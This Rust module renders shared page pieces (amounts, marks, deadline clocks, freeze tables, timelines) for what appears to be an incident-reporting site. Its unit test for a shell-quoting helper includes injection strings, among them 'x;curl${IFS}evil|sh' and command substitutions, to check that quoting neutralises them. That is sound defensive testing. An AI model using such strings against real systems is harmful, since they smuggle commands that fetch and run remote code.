//! The pieces that several pages are made of: amounts, times, marks, figures, the ten answers, clocks, timelines.

use maud::{Markup, html};

use super::Reader;
use crate::text::{Amount, Lang, Words, rfc3339, seoul, span};
use crate::views::{
    Answer, AnswerState, ClockRow, ClockState, EventKind, Figure, Freeze, LawStatus, Mark, Marked,
    TimelineEvent, Value,
};

/// The mark of a figure as a small word.
pub(crate) fn mark_tag(r: &Reader, mark: Mark) -> Markup {
    html! { span class={ "mark mark-" (mark_class(mark)) } { (r.t(mark.key())) } }
}

fn mark_class(mark: Mark) -> &'static str {
    match mark {
        Mark::Published => "published",
        Mark::Recorded => "recorded",
        Mark::Derived => "derived",
        Mark::Assumed => "assumed",
    }
}

/// What the marks mean.
pub(crate) fn mark_legend(r: &Reader) -> Markup {
    html! {
        dl.legend {
            @for mark in Mark::ALL {
                div { dt { (mark_tag(r, mark)) } dd { (r.t(mark.meaning())) } }
            }
        }
    }
}

/// A moment, machine-readable too.
pub(crate) fn time(at: u64) -> Markup {
    html! { time datetime=(rfc3339(at)) { (seoul(at)) } }
}

/// A moment, or the words under `key` where there is none.
pub(crate) fn time_or(r: &Reader, at: Option<u64>, key: &str) -> Markup {
    html! {
        @match at {
            Some(at) => (time(at)),
            None => span.quiet { (r.t(key)) },
        }
    }
}

/// An amount: exact, with its symbol, and the short form of large amounts of won after it.
pub(crate) fn amount(r: &Reader, amount: &Amount) -> Markup {
    html! {
        span.amount { (amount.number()) " " span.symbol { (amount.asset.symbol) } }
        @if let Some(short) = amount.short(r.lang) { " " span.short { "(" (short) ")" } }
    }
}

/// An amount with its mark.
pub(crate) fn marked_amount(r: &Reader, held: &Marked<Amount>) -> Markup {
    html! { (amount(r, &held.value)) " " (mark_tag(r, held.mark)) }
}

/// The entries of the journal that something rests on.
pub(crate) fn evidence(r: &Reader, entries: &[u64]) -> Markup {
    html! {
        @if !entries.is_empty() {
            span.evidence {
                (r.t("evidence-entries")) " "
                @for (place, entry) in entries.iter().take(6).enumerate() {
                    @if place > 0 { ", " }
                    @if r.links {
                        a href=(format!("{}#entry-{entry}", r.href(&format!("/journal?from={entry}")))) { (entry) }
                    } @else { (entry) }
                }
                @if entries.len() > 6 {
                    " " (Words::key("evidence-more").with("count", as_count(entries.len() - 6)).say(r.lang))
                }
            }
        }
    }
}

/// A length as a count for a sentence.
pub(crate) fn as_count(length: usize) -> u64 {
    u64::try_from(length).unwrap_or(u64::MAX)
}

/// A word that a shell takes as this text and nothing else.
pub(crate) fn shell_quoted(text: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "-_.:/@".contains(letter);
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// A table that scrolls by itself where the page is narrow.
pub(crate) struct Table {
    caption: String,
    columns: Vec<String>,
    numbers: &'static [usize],
    class: Option<&'static str>,
    mark: Option<Mark>,
    heading_above: bool,
}

impl Table {
    /// With a caption and the headings of its columns.
    pub(crate) fn new(caption: String, columns: Vec<String>) -> Self {
        Self {
            caption,
            columns,
            numbers: &[],
            class: None,
            mark: None,
            heading_above: false,
        }
    }

    /// Columns in which numbers stand, from 0.
    pub(crate) fn numbers(mut self, places: &'static [usize]) -> Self {
        self.numbers = places;
        self
    }

    /// Its class in the stylesheet.
    pub(crate) fn class(mut self, class: &'static str) -> Self {
        self.class = Some(class);
        self
    }

    /// What its figures are, beside the caption.
    pub(crate) fn mark(mut self, mark: Mark) -> Self {
        self.mark = Some(mark);
        self
    }

    /// The heading above says what the caption says: only whoever listens to the page needs the caption.
    pub(crate) fn heading_above(mut self) -> Self {
        self.heading_above = true;
        self
    }

    /// The table with these rows.
    pub(crate) fn rows(&self, r: &Reader, rows: &Markup) -> Markup {
        self.bodies(r, &html! { tbody { (rows) } })
    }

    /// The table with these groups of rows.
    pub(crate) fn bodies(&self, r: &Reader, bodies: &Markup) -> Markup {
        html! {
            div.scroll role="region" aria-label=(self.caption) tabindex="0" {
                table class=[self.class] {
                    caption class=[self.heading_above.then_some("unseen")] {
                        (self.caption) @if let Some(mark) = self.mark { " " (mark_tag(r, mark)) }
                    }
                    thead { tr {
                        @for (place, column) in self.columns.iter().enumerate() {
                            @if self.numbers.contains(&place) { th.number scope="col" { (column) } }
                            @else { th scope="col" { (column) } }
                        }
                    } }
                    (bodies)
                }
            }
        }
    }
}

/// The headings of columns by their keys.
pub(crate) fn columns<const N: usize>(r: &Reader, keys: [&str; N]) -> Vec<String> {
    keys.iter().map(|key| r.t(key)).collect()
}

/// Labelled figures as a description list, each with its mark.
pub(crate) fn figures(r: &Reader, list: &[Figure]) -> Markup {
    html! {
        @if !list.is_empty() {
            dl.figures {
                @for figure in list {
                    div {
                        dt { (r.say(&figure.label)) }
                        dd {
                            (value(r, &figure.value)) " "
                            @if !matches!(figure.value, Value::Unknown(_)) { (mark_tag(r, figure.mark)) }
                            @if !figure.evidence.is_empty() { " " (evidence(r, &figure.evidence)) }
                        }
                    }
                }
            }
        }
    }
}

/// A value; an unknown one is set apart and says why.
pub(crate) fn value(r: &Reader, value: &Value) -> Markup {
    html! {
        @match value {
            Value::Amount(held) => (amount(r, held)),
            Value::Time(at) => (time(*at)),
            Value::Unknown(_) => span.unknown { (value.say(r.lang)) },
            _ => span.value { (value.say(r.lang)) },
        }
    }
}

fn answer_class(state: AnswerState) -> (&'static str, &'static str) {
    match state {
        AnswerState::Whole => ("whole", "✓"),
        AnswerState::Attention => ("attention", "▲"),
        AnswerState::Unknown => ("unknown", "?"),
        AnswerState::NotBuilt => ("not-built", "–"),
    }
}

/// The state of an answer: a symbol and a word, and a colour on top.
pub(crate) fn answer_tag(r: &Reader, state: AnswerState) -> Markup {
    let (class, symbol) = answer_class(state);
    html! { span class={ "tag tag-" (class) } { span aria-hidden="true" { (symbol) } " " (r.t(state.key())) } }
}

/// The ten questions with their answers.
pub(crate) fn ten_answers(r: &Reader, answers: &[Answer]) -> Markup {
    html! {
        ol.answers {
            @for answer in answers {
                li {
                    article class={ "answer answer-" (answer_class(answer.state).0) } {
                        h3 { span.no { (answer.number) "." } " " (r.t(answer.question())) }
                        p.state { (answer_tag(r, answer.state)) }
                        p.sentence { (r.say(&answer.sentence)) }
                        (figures(r, &answer.figures))
                        @if let Some(link) = answer.link.as_deref().filter(|_| r.links) {
                            p { a href=(r.href(link)) { (r.t("answer-more")) span.unseen { ": " (r.t(answer.question())) } } }
                        }
                        @if !answer.evidence.is_empty() { p { (evidence(r, &answer.evidence)) } }
                    }
                }
            }
        }
    }
}

/// A law's status as a word.
pub(crate) fn law_tag(r: &Reader, status: LawStatus) -> Markup {
    let class = if status.binds() {
        "law law-binds"
    } else {
        "law"
    };
    html! { span class=(class) { (r.t(status.key())) } }
}

/// How a clock stands: a symbol, a class for its colour, and words.
pub(crate) fn clock_words(state: ClockState, lang: Lang) -> (&'static str, &'static str, String) {
    let said = |key, time: u64| Words::key(key).with("span", span(time, lang)).say(lang);
    let plain = |key| Words::key(key).say(lang);
    match state {
        ClockState::NotStarted => ("quiet", "○", plain("clock-not-started")),
        ClockState::Running { left } => ("running", "◔", said("clock-running", left)),
        ClockState::Overdue { late } => ("late", "▲", said("clock-overdue", late)),
        ClockState::DoneInTime { left } => ("done", "✓", said("clock-done-in-time", left)),
        ClockState::DoneLate { late } => ("late", "▲", said("clock-done-late", late)),
        ClockState::NoNumber {
            elapsed,
            done: true,
        } => ("open", "■", said("clock-no-number-done", elapsed)),
        ClockState::NoNumber {
            elapsed,
            done: false,
        } => ("open", "■", said("clock-no-number", elapsed)),
        ClockState::Closed => ("quiet", "○", plain("clock-closed")),
        ClockState::NotFound => ("quiet", "?", plain("clock-not-found")),
    }
}

/// The clocks of a case: each duty with its source, status and confidence.
pub(crate) fn clock_table(r: &Reader, caption: &str, clocks: &[ClockRow]) -> Markup {
    let keys = [
        "clock-col-duty",
        "clock-col-start",
        "clock-col-due",
        "clock-col-done",
        "clock-col-state",
    ];
    let rows = html! { @for clock in clocks { (clock_row(r, clock)) } };
    let table = Table::new(caption.to_owned(), columns(r, keys));
    table.class("clocks").rows(r, &rows)
}

fn clock_row(r: &Reader, clock: &ClockRow) -> Markup {
    let (class, symbol, words) = clock_words(clock.state, r.lang);
    html! {
        tr {
            th scope="row" {
                span.title { (r.say(&clock.title)) } " "
                span.detail { (r.t("clock-to")) " " (r.say(&clock.authority)) }
                span.detail { (clock.source) " · " code { (clock.duty) } }
                span.detail { (law_tag(r, clock.status)) " " (r.t("clock-confidence")) " " (r.t(confidence_key(&clock.confidence))) }
            }
            td { (time_or(r, clock.started, "clock-no-start")) span.detail { (r.say(&clock.trigger)) } }
            td { (time_or(r, clock.due, if clock.state == ClockState::NotStarted { "clock-due-later" } else { "clock-no-due" })) }
            td {
                @match &clock.done {
                    Some(done) => {
                        (time(done.at))
                        @if let Some(receipt) = &done.receipt { span.detail { (r.say(receipt)) } }
                    }
                    None => span.quiet { (r.t("clock-no-done")) },
                }
            }
            td { span class={ "clock clock-" (class) } { span aria-hidden="true" { (symbol) } " " (words) } " " (evidence(r, &clock.evidence)) }
        }
    }
}

/// The catalogue's key of a confidence level of the law's data (law/README.md); anything else counts as not rechecked.
pub(crate) fn confidence_key(level: &str) -> &'static str {
    match level {
        "checked" => "confidence-checked",
        "mirror" => "confidence-mirror",
        "press" => "confidence-press",
        _ => "confidence-not-rechecked",
    }
}

/// The symbol of a kind of event, the same as in the picture.
pub(crate) fn event_symbol(kind: EventKind) -> &'static str {
    match kind {
        EventKind::Outflow => "▼",
        EventKind::Seen => "◆",
        EventKind::Stopped => "■",
        EventKind::Told => "●",
        EventKind::Recovered => "▲",
        EventKind::Decided => "○",
    }
}

/// The events of a case, oldest first, as a numbered list: the text of the picture.
pub(crate) fn timeline_list(r: &Reader, events: &[TimelineEvent]) -> Markup {
    html! {
        ol.timeline {
            @for event in events {
                li {
                    div {
                        (time(event.at)) " "
                        span.kind { span aria-hidden="true" { (event_symbol(event.kind)) } " " (r.t(event.kind.key())) } " "
                        span {
                            span.what { (r.say(&event.what)) } " "
                            (mark_tag(r, event.mark)) " "
                            (evidence(r, &event.evidence))
                        }
                    }
                }
            }
        }
    }
}

/// Freezes at other parties.
pub(crate) fn freeze_table(r: &Reader, caption: &str, freezes: &[Freeze]) -> Markup {
    let keys = [
        "freeze-col-holder",
        "freeze-col-amount",
        "freeze-col-at",
        "freeze-col-state",
    ];
    let rows = html! { @for freeze in freezes { tr {
        th scope="row" { (r.say(&freeze.holder)) }
        td { (value(r, &freeze.amount)) " " @if !matches!(freeze.amount, Value::Unknown(_)) { (mark_tag(r, freeze.mark)) } }
        td { (time_or(r, freeze.at, "freeze-no-time")) }
        td { (r.say(&freeze.state)) " " (evidence(r, &freeze.evidence)) }
    } } };
    Table::new(caption.to_owned(), columns(r, keys)).rows(r, &rows)
}

#[cfg(test)]
mod tests {
    use super::shell_quoted;

    #[test]
    fn a_shell_takes_a_quoted_word_as_its_text() {
        for text in [
            "w-1",
            "",
            "x;curl${IFS}evil|sh",
            "it's `id` $(id)",
            "'",
            "a b\\",
            "김",
            "*",
        ] {
            let script = format!("printf %s {}", shell_quoted(text));
            let said = std::process::Command::new("sh")
                .args(["-c", &script])
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(said.stdout).unwrap(), text);
        }
        assert_eq!(shell_quoted("enrol-kim.2"), "enrol-kim.2");
    }
}
